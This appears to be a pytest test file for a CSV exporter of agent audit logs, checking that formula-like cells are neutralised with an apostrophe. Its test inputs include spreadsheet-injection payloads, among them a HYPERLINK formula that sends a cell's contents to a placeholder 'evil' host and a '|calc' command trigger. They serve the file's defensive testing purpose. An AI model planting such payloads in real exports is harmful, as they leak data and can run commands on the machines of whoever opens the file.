"""CSV is safe to open, whatever agents called themselves."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from written_log import EVERY_KIND, T0

from aip.governance.entry import AuditChain, Batch, Noted
from aip.governance.export.csv import AGENTS_MAX, COLUMNS, Csv, safe


def written(
    kind: str = "effect.done", subject: str = "greeter/ada", **detail: Any
) -> tuple[bytes, dict[str, str]]:
    (line,) = AuditChain().entered(Batch("cell-1", [Noted(1, T0, kind, subject, detail)]))
    form = Csv()
    data = form.encode(line, json.loads(line))
    assert form.extract(data) == line
    (row,) = csv.DictReader(io.StringIO((form.begin() + data).decode()))
    return data, row


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\u00a0=1",
        "\ufeff=1",
        "\uff1d1",
        '=HYPERLINK("http://evil?"&A1)',
        "|calc",
        "%0A=1",
        "'=1",
    ],
)
def test_a_cell_that_begins_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe(text).startswith("'")
    assert "\n" not in safe(text)
    _, row = written(subject=text, by=text)
    assert row["subject"] == row["by"] == safe(text)


@given(st.text(max_size=40))
def test_no_cell_of_a_strangers_words_begins_like_a_formula_or_breaks_the_line(text: str) -> None:
    data, row = written(subject=text, by=text, code=text)
    assert data.count(b"\n") == 1
    assert all(
        not row[name].lstrip().startswith(("=", "+", "-", "@")) for name in COLUMNS if name != "number"
    )
    assert list(row) == list(COLUMNS)


def test_the_last_column_is_the_entry_as_the_log_has_it() -> None:
    _, row = written(run="r-1", note='a,b;"c"\nd')
    assert json.loads(row["entry"])["detail"]["note"] == 'a,b;"c"\nd'
    assert (row["run"], row["index"], row["number"], row["refused"]) == ("r-1", "0", "1", "no")
    assert row["at"] == "2026-11-22T17:53:20.000000Z"


def test_a_gap_keeps_its_number_as_a_number() -> None:
    chain = AuditChain()
    chain.entered(Batch("a", [Noted(1, T0, "x", "y", {})]))
    gap, _ = chain.entered(Batch("a", [Noted(5, T0, "x", "y", {})]))
    assert b'"-1"' in Csv().encode(gap, json.loads(gap))


def test_many_agents_are_counted_not_listed() -> None:
    rows = [[f"m-{n}", "", "", f"a/{n}", f"b/{n}", "do", T0, T0, ""] for n in range(100)]
    _, row = written("messages", "r-1", run="r-1", rows=rows)
    assert row["agents"].endswith(f" and {200 - AGENTS_MAX} more")


def test_every_kind_can_be_written_and_read_back() -> None:
    for kind, subject, detail in EVERY_KIND:
        _, row = written(kind, subject, **detail)
        assert row["kind"] == kind
